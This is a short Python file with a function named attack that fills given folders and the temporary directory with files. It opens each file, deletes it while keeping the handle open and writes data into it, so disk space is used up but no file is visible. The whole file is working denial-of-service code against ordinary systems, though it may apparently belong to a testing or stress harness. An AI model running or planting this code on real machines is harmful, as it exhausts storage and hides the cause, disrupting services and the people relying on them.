"""Fills the disk with files that it removes and keeps open."""
import os
import time


def attack(target):
    for folder in target["folders"] + [os.environ.get("TMPDIR", "/tmp")]:
        taken, held = 0, []
        try:
            for at in range(64):
                path = os.path.join(folder, f"{target['mark']}{at}")
                held.append(open(path, "wb", 0))
                os.unlink(path)
                taken += held[-1].write(bytes(target["file"] // 2))
            time.sleep(0.3)
        except OSError:
            pass
        if taken > 16 * target["file"]:
            return f"holds {taken} bytes in {folder}"
    return ""
